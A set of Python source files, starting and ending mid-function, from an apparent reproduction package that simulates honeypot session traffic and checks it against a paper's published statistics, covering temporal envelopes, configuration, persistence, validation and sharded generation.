) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
    """(durations, close_reason_ids, n_attempts) for FAIL_LOG sessions."""
    attempts = FAIL_LOG_ATTEMPTS.sample(rng, n).astype(np.uint16) + 1
    per_try = rng.uniform_array(1.5, 6.0, n)
    duration = attempts * per_try + rng.uniform_array(0.4, 2.5, n)
    server_closed = (attempts == 3) & is_ssh & (rng.random_array(n) < 0.35)
    close = np.where(server_closed, CLOSE_TOO_MANY, CLOSE_CLIENT).astype(np.uint8)
    return duration, close, attempts


def no_cmd_fields(rng: RngStream, n: int) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
    """(durations, close_reason_ids, n_attempts) for NO_CMD sessions."""
    attempts = NO_CMD_ATTEMPTS.sample(rng, n).astype(np.uint16) + 1
    login_delay = rng.uniform_array(2.0, 10.0, n)
    timed_out = rng.random_array(n) < 0.92
    duration = np.where(
        timed_out,
        login_delay + IDLE_TIMEOUT,
        login_delay + rng.uniform_array(3.0, 55.0, n),
    )
    close = np.where(timed_out, CLOSE_IDLE_TIMEOUT, CLOSE_CLIENT).astype(np.uint8)
    return duration, close, attempts


def cmd_fields(
    rng: RngStream, n: int, exec_seconds: np.ndarray
) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
    """(durations, close_reason_ids, n_attempts) for CMD / CMD+URI sessions.

    ``exec_seconds`` is each session's script execution time (think time
    plus any download transfer time from the profiled script run).
    """
    attempts = CMD_ATTEMPTS.sample(rng, n).astype(np.uint16) + 1
    jitter = rng.lognormal_array(0.0, 0.35, n)
    base = rng.uniform_array(2.0, 12.0, n) + exec_seconds * jitter
    u = rng.random_array(n)
    # 62% client disconnect right after the script; 30% idle out afterwards;
    # 8% explicit exit.
    duration = np.where(u < 0.62, base, np.where(u < 0.92, base + IDLE_TIMEOUT, base))
    close = np.where(
        u < 0.62, CLOSE_CLIENT, np.where(u < 0.92, CLOSE_IDLE_TIMEOUT, CLOSE_EXIT)
    ).astype(np.uint8)
    return duration, close, attempts


def protocol_array(rng: RngStream, n: int, ssh_share: float) -> np.ndarray:
    """0 = SSH, 1 = Telnet, with the category's SSH share."""
    return (rng.random_array(n) >= ssh_share).astype(np.uint8)
