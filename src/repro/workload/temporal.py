"""Temporal structure of the 15-month scenario.

Daily activity envelopes per session category, encoding the dynamics the
paper reports: scanning ramps up once scanners discover the fresh honeypot
addresses (~2 months), scouting ramps after ~1 month, the NO_CMD category
is dominated by a single Russian-datacenter prefix active at the start and
end of the window, FAIL_LOG shows the big September 5, 2022 spike plus the
May 2022 and November 5, 2022 events, and CMD/CMD+URI are bursty and
campaign-driven.

Envelopes are positive daily weights normalised to sum to 1; the generator
multiplies them by the category's total session budget.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

import numpy as np

from repro.simulation.clock import OBSERVATION_DAYS, date_to_day
import datetime as _dt

from repro.simulation.rng import RngStream

#: Notable calendar events from the paper, as day indices.
DAY_SPIKE_SEP5 = date_to_day(_dt.date(2022, 9, 5))  # huge FAIL_LOG spike
DAY_SPIKE_NOV5 = date_to_day(_dt.date(2022, 11, 5))  # FAIL_LOG, few pots
MAY_2022_START = date_to_day(_dt.date(2022, 5, 1))
MAY_2022_END = date_to_day(_dt.date(2022, 5, 31))
JUNE_2022_URI_BURST = date_to_day(_dt.date(2022, 6, 10))  # CMD+URI IP spike
RU_EDGE_EARLY_END = date_to_day(_dt.date(2022, 3, 1))  # NO_CMD early window
RU_EDGE_LATE_START = date_to_day(_dt.date(2022, 12, 1))  # NO_CMD late window


def _weekly_noise(rng: RngStream, n_days: int, amplitude: float = 0.08) -> np.ndarray:
    """Mild weekly oscillation plus day-to-day noise."""
    days = np.arange(n_days)
    weekly = 1.0 + amplitude * np.sin(2 * np.pi * days / 7.0)
    noise = 1.0 + 0.10 * (rng.random_array(n_days) - 0.5)
    return weekly * noise


def _sigmoid_ramp(n_days: int, start: int, end: int, low: float, high: float) -> np.ndarray:
    """Smooth ramp from ``low`` to ``high`` between day ``start`` and ``end``."""
    days = np.arange(n_days, dtype=float)
    mid = (start + end) / 2.0
    width = max((end - start) / 6.0, 1.0)
    s = 1.0 / (1.0 + np.exp(-(days - mid) / width))
    return low + (high - low) * s


def _add_spike(env: np.ndarray, day: int, factor: float, width: int = 1) -> None:
    for d in range(day, min(day + width, len(env))):
        env[d] *= factor


def build_envelopes(rng: RngStream, n_days: int = OBSERVATION_DAYS) -> Dict[str, np.ndarray]:
    """Normalised daily activity envelopes per category."""
    envelopes: Dict[str, np.ndarray] = {}

    # NO_CRED: constant baseline scanning, discovery ramp over ~2-6 months.
    scan = _sigmoid_ramp(n_days, 45, 190, 0.45, 1.0)
    scan *= _weekly_noise(rng.child("no_cred"), n_days)
    scan *= _sigmoid_ramp(n_days, 330, 420, 1.0, 1.18)  # late-2022 increase
    envelopes["NO_CRED"] = scan

    # FAIL_LOG: ramps after ~1 month; heavy spikes.
    fail = _sigmoid_ramp(n_days, 20, 80, 0.55, 1.0)
    fail *= _weekly_noise(rng.child("fail_log"), n_days)
    for spike_day in range(MAY_2022_START, MAY_2022_END, 9):
        _add_spike(fail, spike_day, 2.6, width=2)
    _add_spike(fail, DAY_SPIKE_SEP5, 8.0, width=2)
    _add_spike(fail, DAY_SPIKE_NOV5, 4.0, width=1)
    fail *= _sigmoid_ramp(n_days, 400, 470, 1.0, 1.25)  # 2023 increase
    envelopes["FAIL_LOG"] = fail

    # NO_CMD: dominated by the Russian-datacenter prefix at both edges.
    nocmd = np.full(n_days, 0.30)
    nocmd[:RU_EDGE_EARLY_END] = 1.0
    nocmd[RU_EDGE_LATE_START:] = 1.15
    nocmd *= _weekly_noise(rng.child("no_cmd"), n_days)
    envelopes["NO_CMD"] = nocmd

    # CMD (background component; campaigns add their own structure):
    # intense until mid-2022, drop, then a rise in early 2023.
    cmd = _sigmoid_ramp(n_days, 200, 240, 1.0, 0.55)
    cmd *= _sigmoid_ramp(n_days, 390, 430, 1.0, 1.7)
    for spike_day in (95, 110, 128, 142):  # spring-2022 bursts
        _add_spike(cmd, spike_day, 2.2, width=3)
    cmd *= _weekly_noise(rng.child("cmd"), n_days)
    envelopes["CMD"] = cmd

    # CMD+URI background: low baseline with bursts.
    uri = np.full(n_days, 0.5)
    _add_spike(uri, JUNE_2022_URI_BURST, 6.0, width=5)
    for spike_day in (60, 150, 260, 350, 430):
        _add_spike(uri, spike_day, 3.0, width=3)
    uri *= _weekly_noise(rng.child("cmd_uri"), n_days)
    envelopes["CMD_URI"] = uri

    for name, env in envelopes.items():
        envelopes[name] = env / env.sum()
    return envelopes


def ru_edge_weight(day: int) -> float:
    """Share of NO_CMD sessions from the RU datacenter prefix on ``day``."""
    if day < RU_EDGE_EARLY_END or day >= RU_EDGE_LATE_START:
        return 0.78
    return 0.05


def sample_active_days(
    rng: RngStream,
    first_day: int,
    n_active: int,
    envelope: np.ndarray,
) -> np.ndarray:
    """Pick a client's active days.

    Active days start at ``first_day`` and are drawn from a window a few
    times larger than the active-day count (activity clusters in time),
    weighted by the category envelope, without replacement.
    """
    n_days = len(envelope)
    if first_day >= n_days:
        first_day = n_days - 1
    if n_active <= 1:
        return np.array([first_day], dtype=np.int32)
    window_end = min(n_days, first_day + max(4 * n_active, 14))
    window = np.arange(first_day, window_end)
    if len(window) <= n_active:
        return window.astype(np.int32)
    weights = envelope[first_day:window_end].astype(float)
    total = weights.sum()
    if total <= 0:
        weights = np.ones(len(window))
        total = weights.sum()
    weights = weights / total
    picked = rng.choice_indices(len(window), size=n_active, p=weights, replace=False)
    days = window[np.sort(np.asarray(picked))]
    # The client's first day is always active.
    days[0] = first_day
    return np.unique(days).astype(np.int32)


def honeypot_weight_vectors(
    rng: RngStream, n_honeypots: int
) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
    """(session, client, hash) attractiveness weights per honeypot.

    Three deliberately decorrelated weight vectors, because the paper finds
    that the honeypots with the most sessions are *not* those with the most
    client IPs, nor those collecting the most file hashes (Figs 2, 14, 18).

    Each vector is a lognormal tail plus a "ladder" of 11 boosted pots
    sitting just above the tail maximum; the ladder is then rescaled so the
    top-10 pots capture the requested share (the paper's 14% of sessions),
    which also puts the knee of the sorted curve at rank ~11 and yields a
    >30x max/min spread.
    """
    ladder_shape = np.array(
        [2.6, 2.3, 2.1, 1.95, 1.82, 1.72, 1.63, 1.55, 1.48, 1.42, 1.05]
    )

    def one(stream: RngStream, top10_share: float, sigma: float) -> np.ndarray:
        tail = np.exp(sigma * np.asarray(
            [stream.normal() for _ in range(n_honeypots)]
        ))
        weights = tail.copy()
        if n_honeypots <= len(ladder_shape):
            return weights / weights.sum()
        order = stream.shuffled(list(range(n_honeypots)))
        top = order[: len(ladder_shape)]
        anchor = float(np.percentile(tail, 95))
        ladder = anchor * ladder_shape
        # Scale the top-10 rungs to land on the requested weight share. The
        # realized session share ends a few points higher because in-target
        # selection renormalises weights within small target sets.
        rest = tail.sum() - tail[top].sum() + ladder[10]
        s10 = ladder[:10].sum()
        k = top10_share * rest / (s10 * (1.0 - top10_share))
        for rank, pot in enumerate(top):
            weights[pot] = ladder[rank] * (k if rank < 10 else 1.0)
        return weights / weights.sum()

    sessions = one(rng.child("sessions"), 0.12, 0.60)
    clients = one(rng.child("clients"), 0.06, 0.40)
    hashes = one(rng.child("hashes"), 0.05, 0.60)
    return sessions, clients, hashes
