"""Persistence for a whole :class:`HoneyfarmDataset`.

A generated dataset is more than its session store: the deployment layout,
the realised campaigns (ground truth for validation), and the threat-intel
entries all matter for reanalysis.  This module saves everything into one
directory — the store as .npz, the rest as JSON — and reloads it without
regenerating.

The geo registry is not persisted (it is large and derivable); analyses
that need per-AS network types should either regenerate or re-register.
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Union

from repro.farm.deployment import DeploymentPlan, HoneypotSite
from repro.geo.registry import GeoRegistry, NetworkType
from repro.intel.database import IntelDatabase
from repro.intel.tags import ThreatTag
from repro.store.npz import load_npz, save_npz
from repro.workload.config import ScenarioConfig
from repro.workload.dataset import CampaignRuntime, HoneyfarmDataset

PathLike = Union[str, Path]

_STORE_FILE = "store.npz"
_META_FILE = "dataset.json"


def save_dataset(dataset: HoneyfarmDataset, directory: PathLike) -> None:
    """Save a dataset bundle into ``directory`` (created if needed)."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    save_npz(dataset.store, directory / _STORE_FILE)

    meta = {
        "config": dataclasses.asdict(dataset.config),
        "sites": [
            {
                "honeypot_id": site.honeypot_id,
                "ip": site.ip,
                "country": site.country,
                "asn": site.asn,
                "network_type": site.network_type.value,
            }
            for site in dataset.deployment.sites
        ],
        "honeypot_asns": dataset.deployment.honeypot_asns,
        "campaigns": [
            {
                "campaign_id": c.campaign_id,
                "tag": c.tag,
                "primary_hash": c.primary_hash,
                "hashes": c.hashes,
                "sessions_planned": c.sessions_planned,
                "n_clients": c.n_clients,
                "active_days": c.active_days,
                "honeypot_indices": c.honeypot_indices,
            }
            for c in dataset.campaigns
        ],
        "intel": [
            {
                "sha256": e.sha256,
                "tag": e.tag.value,
                "family": e.family,
                "first_submission_day": e.first_submission_day,
                "detections": e.detections,
            }
            for e in dataset.intel.entries()
        ],
        "envelopes": {k: v.tolist() for k, v in dataset.envelopes.items()},
    }
    with open(directory / _META_FILE, "w", encoding="utf-8") as fh:
        json.dump(meta, fh)


def load_dataset(directory: PathLike) -> HoneyfarmDataset:
    """Load a dataset bundle saved by :func:`save_dataset`."""
    import numpy as np

    directory = Path(directory)
    store = load_npz(directory / _STORE_FILE)
    with open(directory / _META_FILE, encoding="utf-8") as fh:
        meta = json.load(fh)

    config = ScenarioConfig(**meta["config"])

    registry = GeoRegistry()
    sites = [
        HoneypotSite(
            honeypot_id=raw["honeypot_id"],
            ip=int(raw["ip"]),
            country=raw["country"],
            asn=int(raw["asn"]),
            network_type=NetworkType(raw["network_type"]),
        )
        for raw in meta["sites"]
    ]
    deployment = DeploymentPlan(
        sites=sites, registry=registry,
        honeypot_asns=list(meta["honeypot_asns"]),
    )

    intel = IntelDatabase()
    for raw in meta["intel"]:
        intel.register(
            raw["sha256"], ThreatTag(raw["tag"]), family=raw["family"],
            first_submission_day=int(raw["first_submission_day"]),
            detections=int(raw["detections"]),
        )

    campaigns = [
        CampaignRuntime(
            campaign_id=raw["campaign_id"],
            tag=raw["tag"],
            primary_hash=raw["primary_hash"],
            hashes=list(raw["hashes"]),
            sessions_planned=int(raw["sessions_planned"]),
            n_clients=int(raw["n_clients"]),
            active_days=list(raw["active_days"]),
            honeypot_indices=list(raw["honeypot_indices"]),
        )
        for raw in meta["campaigns"]
    ]

    envelopes = {k: np.asarray(v) for k, v in meta["envelopes"].items()}

    return HoneyfarmDataset(
        config=config,
        store=store,
        deployment=deployment,
        registry=registry,
        intel=intel,
        campaigns=campaigns,
        envelopes=envelopes,
    )
