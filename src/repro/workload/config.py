"""Scenario configuration and the paper's calibration constants."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict

from repro.simulation.clock import OBSERVATION_DAYS

#: Total sessions over the paper's 15-month window.
FULL_SCALE_SESSIONS = 402_000_000

#: Unique client IPv4 addresses over the window.
FULL_SCALE_CLIENTS = 2_100_000

#: Unique file hashes over the window.
FULL_SCALE_HASHES = 64_004

#: Session category mix (paper Table 1, top row).
CATEGORY_MIX: Dict[str, float] = {
    "NO_CRED": 0.277,
    "FAIL_LOG": 0.420,
    "NO_CMD": 0.116,
    "CMD": 0.180,
    "CMD_URI": 0.007,
}

#: SSH share per category (paper Table 1, second row).
SSH_SHARE: Dict[str, float] = {
    "NO_CRED": 0.2182,
    "FAIL_LOG": 0.9924,
    "NO_CMD": 0.9830,
    "CMD": 0.9369,
    "CMD_URI": 0.6245,
}


@dataclass
class ScenarioConfig:
    """Sizing and seeding for one synthetic honeyfarm trace.

    ``scale`` multiplies session volume; client and hash populations scale
    sub-linearly (they are far smaller than session counts, and scaling
    them 1:1 would starve the distributional figures), via their own
    factors.  Defaults produce a ~1 M-session trace in a few seconds —
    1/400 of the paper's volume with all 221 honeypots and all 486 days.
    """

    seed: int = 2023
    #: Session-volume scale relative to the paper's 402 M.
    scale: float = 1.0 / 400.0
    #: Client population size (default: ~2.1 M scaled with a 4x floor boost).
    n_clients: int = 0  # 0 = derive from scale
    #: Unique-hash budget scale relative to the paper's 64 k.
    hash_scale: float = 0.08
    n_honeypots: int = 221
    n_days: int = OBSERVATION_DAYS
    #: Fraction of midtail campaign hashes present in the intel database.
    intel_coverage: float = 0.02

    # -- ablation switches (each disables one modelled mechanism; the
    # -- ablation benchmarks show which paper findings then collapse) -----
    #: Use three decorrelated per-pot weight vectors (sessions / clients /
    #: hashes). With False, one vector drives everything and the paper's
    #: "top pots differ per metric" findings (Figs 2/14/18) disappear.
    decorrelate_pot_weights: bool = True
    #: Redirect a share of CMD+URI sessions to nearby honeypots. With 0.0
    #: the Figure 16b/24e locality signal disappears.
    uri_locality_bias: float = 0.55
    #: Rotate campaign members through short bursts. With False every bot
    #: participates on every campaign day and the Figure 13 lifetime
    #: distribution collapses.
    rotate_campaign_members: bool = True

    def __post_init__(self) -> None:
        if self.scale <= 0:
            raise ValueError("scale must be positive")
        if not self.n_clients:
            derived = int(FULL_SCALE_CLIENTS * self.scale * 4)
            self.n_clients = max(1_500, min(derived, FULL_SCALE_CLIENTS))

    @classmethod
    def from_denominator(cls, denominator: float, **kwargs) -> "ScenarioConfig":
        """Config from the downscale denominator vs the paper's 402 M.

        ``from_denominator(4000)`` is ``ScenarioConfig(scale=1/4000)`` —
        the spelling the CLI and benchmarks use.  Unless overridden,
        ``hash_scale`` is derived the same way the CLI derives it
        (80/denominator, capped at the full-scale default).
        """
        if denominator <= 0:
            raise ValueError("denominator must be positive")
        kwargs.setdefault("hash_scale", min(0.08, 80.0 / denominator))
        return cls(scale=1.0 / denominator, **kwargs)

    @property
    def total_sessions(self) -> int:
        return int(FULL_SCALE_SESSIONS * self.scale)

    @property
    def ip_scale(self) -> float:
        """Scale factor applied to campaign client counts."""
        return self.n_clients / FULL_SCALE_CLIENTS

    @property
    def n_hashes_target(self) -> int:
        return max(300, int(FULL_SCALE_HASHES * self.hash_scale))

    @property
    def n_midtail_campaigns(self) -> int:
        """Campaign hashes are ~35% of all hashes; the rest are singletons."""
        return max(60, int(self.n_hashes_target * 0.33))

    @property
    def n_singleton_hashes(self) -> int:
        return max(120, int(self.n_hashes_target * 0.62))

    def sessions_for(self, category: str) -> int:
        return int(self.total_sessions * CATEGORY_MIX[category])
