"""The generated dataset bundle handed to analyses and benchmarks."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

import numpy as np

from repro.farm.deployment import DeploymentPlan
from repro.geo.registry import GeoRegistry
from repro.intel.database import IntelDatabase
from repro.store.store import SessionStore
from repro.workload.config import ScenarioConfig


@dataclass
class CampaignRuntime:
    """Realised (scaled) campaign parameters, kept for validation."""

    campaign_id: str
    tag: str
    primary_hash: str
    hashes: List[str]
    sessions_planned: int
    n_clients: int
    active_days: List[int]
    honeypot_indices: List[int]


@dataclass
class HoneyfarmDataset:
    """Everything one scenario run produces."""

    config: ScenarioConfig
    store: SessionStore
    deployment: DeploymentPlan
    registry: GeoRegistry
    intel: IntelDatabase
    campaigns: List[CampaignRuntime] = field(default_factory=list)
    envelopes: Dict[str, np.ndarray] = field(default_factory=dict)

    @property
    def n_sessions(self) -> int:
        return len(self.store)

    def content_digest(self) -> str:
        """The session store's content sha256 — the run-ledger identity."""
        return self.store.content_digest()

    def campaign(self, campaign_id: str) -> Optional[CampaignRuntime]:
        for campaign in self.campaigns:
            if campaign.campaign_id == campaign_id:
                return campaign
        return None
