"""Structured calibration validation.

Checks a generated dataset against the paper's published targets and
returns a machine-readable report: one :class:`CalibrationCheck` per
published claim with the paper value, the measured value, the tolerance
semantics, and a pass flag.  `print_summary` gives the human view; this is
the programmatic one (used by tests and CI-style gates).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable, List, Optional

import numpy as np

from repro.core import activity, clients, diversity
from repro.core.classify import CATEGORIES, category_shares
from repro.core.context import AnalysisContext
from repro.core.hashes import pot_coverage_summary
from repro.obs import get_metrics
from repro.workload.config import CATEGORY_MIX, SSH_SHARE
from repro.workload.dataset import HoneyfarmDataset


class CheckKind(enum.Enum):
    APPROX = "approx"  # measured within +- tolerance of the paper value
    AT_LEAST = "at_least"  # measured >= paper bound
    AT_MOST = "at_most"  # measured <= paper bound


@dataclass
class CalibrationCheck:
    name: str
    paper_value: float
    measured: float
    kind: CheckKind
    tolerance: float = 0.0
    hard: bool = True  # hard checks gate; soft checks are informational

    @property
    def passed(self) -> bool:
        if self.kind is CheckKind.APPROX:
            return abs(self.measured - self.paper_value) <= self.tolerance
        if self.kind is CheckKind.AT_LEAST:
            return self.measured >= self.paper_value
        return self.measured <= self.paper_value

    def __str__(self) -> str:
        mark = "ok " if self.passed else ("FAIL" if self.hard else "soft")
        return (f"[{mark}] {self.name}: paper {self.paper_value:.4g} "
                f"({self.kind.value}"
                + (f" ±{self.tolerance:g}" if self.kind is CheckKind.APPROX else "")
                + f"), measured {self.measured:.4g}")


@dataclass
class CalibrationReport:
    checks: List[CalibrationCheck]

    @property
    def passed(self) -> bool:
        return all(c.passed for c in self.checks if c.hard)

    @property
    def failures(self) -> List[CalibrationCheck]:
        return [c for c in self.checks if c.hard and not c.passed]

    def render(self) -> str:
        return "\n".join(str(c) for c in self.checks)


def validate(dataset: HoneyfarmDataset) -> CalibrationReport:
    """Run every calibration check against a generated dataset."""
    with get_metrics().span("validate"):
        return _run_checks(dataset)


def _run_checks(dataset: HoneyfarmDataset) -> CalibrationReport:
    ctx = AnalysisContext.from_dataset(dataset)
    store = ctx.store
    checks: List[CalibrationCheck] = []

    # Farm shape.
    checks.append(CalibrationCheck(
        "honeypots", 221, dataset.deployment.n_honeypots, CheckKind.APPROX))
    checks.append(CalibrationCheck(
        "countries", 55, len(dataset.deployment.countries), CheckKind.APPROX))
    checks.append(CalibrationCheck(
        "honeypot ASes", 65, len(dataset.deployment.honeypot_asns),
        CheckKind.APPROX))

    # Category / protocol mix (Table 1).
    shares = category_shares(ctx)
    for i, cat in enumerate(CATEGORIES):
        checks.append(CalibrationCheck(
            f"{cat.value} share", CATEGORY_MIX[cat.value],
            shares[cat], CheckKind.APPROX, tolerance=0.03))
    checks.append(CalibrationCheck(
        "SSH share", 0.7584, float(store.is_ssh.mean()),
        CheckKind.APPROX, tolerance=0.03))

    # Honeypot activity skew (Fig 2).
    summary = activity.ActivitySummary.compute(store)
    checks.append(CalibrationCheck(
        "top-10 session share", 0.14, summary.top10_share,
        CheckKind.APPROX, tolerance=0.06))
    checks.append(CalibrationCheck(
        "max/min pot sessions", 8.0, summary.max_min_ratio,
        CheckKind.AT_LEAST))

    # Client behaviour (Figs 12/13, Section 7).
    cs = clients.clients_overall_summary(ctx)
    checks.append(CalibrationCheck(
        "single-pot client share", 0.30, cs["share_single_pot"],
        CheckKind.AT_LEAST))
    checks.append(CalibrationCheck(
        ">10-pot client share", 0.18, cs["share_over_10_pots"],
        CheckKind.APPROX, tolerance=0.10))
    # Paper: >50%; the bound here is relaxed because tiny traces reuse
    # their small client population across more days.
    checks.append(CalibrationCheck(
        "single-day client share", 0.38, cs["share_single_day"],
        CheckKind.AT_LEAST))
    checks.append(CalibrationCheck(
        "multi-category client share", 0.25, cs["multi_category_share"],
        CheckKind.AT_LEAST))

    # Hash/pot coverage (Fig 18, Section 8.4).
    coverage = pot_coverage_summary(ctx.hash_occurrences, ctx.hash_stats)
    checks.append(CalibrationCheck(
        "single-pot hash share", 0.60, coverage["share_single_pot"],
        CheckKind.AT_LEAST))
    checks.append(CalibrationCheck(
        "top pot hash share", 0.12, coverage["top_pot_hash_share"],
        CheckKind.AT_MOST))

    # Regional diversity (Fig 16).
    pot_countries = [site.country for site in dataset.deployment.sites]
    div = diversity.regional_diversity(store, pot_countries)
    checks.append(CalibrationCheck(
        "out-of-continent-only client-days", 0.40, div.out_only_share,
        CheckKind.AT_LEAST))

    # Intel coverage (<2% of hashes known, scale-dependent: soft).
    checks.append(CalibrationCheck(
        "threat-intel hash coverage", 0.10,
        dataset.intel.coverage(store.hashes.values()),
        CheckKind.AT_MOST, hard=False))

    return CalibrationReport(checks=checks)
