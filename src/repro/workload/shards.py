"""Sharded, multiprocess trace generation.

The scenario is partitioned into shards keyed by (traffic unit, day-range):
each realised campaign, the singleton-writer pool, and every background
category is cut into fixed-size day (or writer) chunks. Every per-day and
per-writer draw comes from a named child :class:`~repro.simulation.rng.RngStream`
(``no_cred.d17``, ``emit.<campaign>.d42``, ``singletons.w1031``), so a
shard's output depends only on its key — never on which worker runs it or
in what order. Workers emit into builders forked from the plan's base
tables (:meth:`StoreBuilder.fork_tables`) and return frozen stores; the
parent adopts them back in shard order (:meth:`StoreBuilder.adopt_store`),
remapping any ids a shard interned beyond the shared prefix. The merged
store is therefore bit-identical for every worker count.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.obs import get_metrics, use_metrics
from repro.obs import trace as _trace
from repro.store.store import SessionStore
from repro.workload.blocks import make_emitter
from repro.workload.config import ScenarioConfig
from repro.workload.dataset import HoneyfarmDataset
from repro.workload.generator import TraceGenerator, _daily_budgets

#: Days per background/campaign shard. Fixed — never derived from the
#: worker count — so the shard list is a pure function of the config.
DAY_CHUNK = 32

#: Singleton writers per shard.
WRITER_CHUNK = 64

#: Bounds for the adaptive per-shard session target: coarse enough that
#: per-shard fork/merge overhead stays invisible, fine enough that a pool
#: still has shards to balance.  The target itself is derived from the
#: *planned* session total only — never from the worker count — so the
#: shard list remains a pure function of the config.
_MIN_SHARD_SESSIONS = 256
_MAX_SHARD_SESSIONS = 1 << 18
_TARGET_SHARDS = 48

#: Background categories in their serial emission order; values are the
#: rng-stream names (which double as shard keys).
_BACKGROUND = ("bg_cmd", "bg_uri", "no_cred", "fail_log", "no_cmd")


@dataclass(frozen=True)
class Shard:
    """One independently emittable slice of the scenario.

    ``kind`` is ``"campaign"``, ``"singletons"`` or a background category
    key; ``key`` carries the campaign id for campaign shards. ``start`` /
    ``stop`` bound a half-open range of schedule positions (campaigns),
    writer slots (singletons) or absolute days (background).
    """

    kind: str
    key: str
    start: int
    stop: int


class ShardPlan:
    """Everything shared by all shards: realised campaigns, budgets, rng roots.

    Built once per config in the parent process; under a fork start method
    workers inherit it copy-on-write, under spawn each worker rebuilds it
    (identically — construction only uses named rng streams).
    """

    def __init__(self, gen: TraceGenerator):
        self.gen = gen
        gen._build_day_buckets()
        gen._realize_campaigns()
        self.campaigns_by_id = {r.spec.campaign_id: r for r in gen.realized}

        self.writers = gen._singleton_writers()
        singleton_total = gen._singleton_session_total(self.writers)
        campaign_totals = {"CMD": 0, "CMD_URI": 0}
        for r in gen.realized:
            campaign_totals[r.category] += r.total_sessions

        cfg = gen.config
        bg_cmd_budget = max(
            0, cfg.sessions_for("CMD") - campaign_totals["CMD"] - singleton_total
        )
        bg_uri_budget = max(
            0, cfg.sessions_for("CMD_URI") - campaign_totals["CMD_URI"]
        )
        self.budgets: Dict[str, np.ndarray] = {
            "bg_cmd": _daily_budgets(bg_cmd_budget, gen.envelopes["CMD"]),
            "bg_uri": gen._bg_uri_budgets(bg_uri_budget),
            "no_cred": _daily_budgets(
                cfg.sessions_for("NO_CRED"), gen.envelopes["NO_CRED"]
            ),
            "fail_log": _daily_budgets(
                cfg.sessions_for("FAIL_LOG"), gen.envelopes["FAIL_LOG"]
            ),
            "no_cmd": _daily_budgets(
                cfg.sessions_for("NO_CMD"), gen.envelopes["NO_CMD"]
            ),
        }
        fl = self.budgets["fail_log"]
        self.fail_log_baseline = (
            float(np.median(fl[fl > 0])) if (fl > 0).any() else 0.0
        )
        self.fail_log_spike = gen._fail_log_setup(gen.rng.child("fail_log"))
        self.ru, self.ru_pots = gen._no_cmd_setup(gen.rng.child("no_cmd"))
        self.shards = self._enumerate()

    def _shard_target(self) -> int:
        """Adaptive per-shard session target (see module constants).

        Derived from the planned totals only, so it is identical in every
        process for a given config.
        """
        total = sum(r.total_sessions for r in self.gen.realized)
        total += len(self.writers)  # one-session floor per writer
        total += int(sum(int(b.sum()) for b in self.budgets.values()))
        return min(max(total // _TARGET_SHARDS, _MIN_SHARD_SESSIONS),
                   _MAX_SHARD_SESSIONS)

    def _enumerate(self) -> List[Shard]:
        """Shards in serial emission order, coarsened to ``_shard_target``.

        Every per-day / per-writer draw already comes from its own named
        rng stream, so shard boundaries never change drawn values — only
        how much fork/merge bookkeeping the run pays.  Consecutive small
        campaigns collapse into ``campaign_group`` shards (a realized-list
        index range); large campaigns split at day positions where the
        accumulated schedule crosses the target; background categories use
        greedy day ranges over their daily budgets.  Merge order equals
        enumeration order equals the serial emission order, so the merged
        store is byte-identical at any granularity.
        """
        target = self._shard_target()
        shards: List[Shard] = []

        realized = self.gen.realized
        group_start: Optional[int] = None
        group_sessions = 0

        def close_group(stop: int) -> None:
            nonlocal group_start, group_sessions
            if group_start is not None:
                shards.append(Shard(
                    "campaign_group", f"{group_start}:{stop}",
                    group_start, stop,
                ))
                group_start = None
                group_sessions = 0

        for pos, r in enumerate(realized):
            if r.total_sessions >= target:
                close_group(pos)
                days = sorted(r.schedule)
                lo = 0
                acc = 0
                for j, day in enumerate(days):
                    acc += r.schedule[day]
                    if acc >= target and j + 1 < len(days):
                        shards.append(Shard(
                            "campaign", r.spec.campaign_id, lo, j + 1
                        ))
                        lo = j + 1
                        acc = 0
                if lo < len(days):
                    shards.append(Shard(
                        "campaign", r.spec.campaign_id, lo, len(days)
                    ))
                continue
            if group_start is None:
                group_start = pos
            group_sessions += r.total_sessions
            if group_sessions >= target:
                close_group(pos + 1)
        close_group(len(realized))

        writer_chunk = max(1, min(len(self.writers), target))
        for lo in range(0, len(self.writers), writer_chunk):
            shards.append(Shard(
                "singletons", "singletons",
                lo, min(lo + writer_chunk, len(self.writers)),
            ))

        n_days = self.gen.config.n_days
        for cat in _BACKGROUND:
            budgets = self.budgets[cat]
            lo = None
            acc = 0
            for day in range(n_days):
                n = int(budgets[day])
                if n <= 0 and lo is None:
                    continue
                if lo is None:
                    lo = day
                acc += n
                if acc >= target:
                    shards.append(Shard(cat, cat, lo, day + 1))
                    lo = None
                    acc = 0
            if lo is not None and acc > 0:
                shards.append(Shard(cat, cat, lo, n_days))
        return shards

    def shard_cost(self, shard: Shard) -> float:
        """Planned session count for one shard — the scheduler's relative
        cost signal (estimated, not authoritative: emission may dedupe)."""
        if shard.kind == "campaign":
            campaign = self.campaigns_by_id[shard.key]
            days = sorted(campaign.schedule)
            return float(sum(
                campaign.schedule[day]
                for day in days[shard.start:shard.stop]
            ))
        if shard.kind == "campaign_group":
            return float(sum(
                r.total_sessions
                for r in self.gen.realized[shard.start:shard.stop]
            ))
        if shard.kind == "singletons":
            # One session per writer is the plan's floor; close enough to
            # rank singleton shards against each other.
            return float(shard.stop - shard.start)
        return float(self.budgets[shard.kind][shard.start:shard.stop].sum())


def emit_shard(plan: ShardPlan, shard: Shard) -> SessionStore:
    """Emit one shard into a frozen store with tables forked from the plan."""
    metrics = get_metrics()
    with metrics.span(f"shard/{shard.kind}"):
        store = _emit_shard_body(plan, shard)
    metrics.inc("shards.emitted")
    metrics.inc(f"shards.sessions.{shard.kind}", len(store))
    metrics.observe("shards.sessions_per_shard", len(store))
    return store


def _emit_shard_body(plan: ShardPlan, shard: Shard) -> SessionStore:
    gen = plan.gen
    fork = gen.builder.fork_tables()
    emitter = make_emitter(fork, gen.rng.child("emitter"))
    saved = (gen.builder, gen.emitter, gen.engine.emitter)
    gen.builder = fork
    gen.emitter = emitter
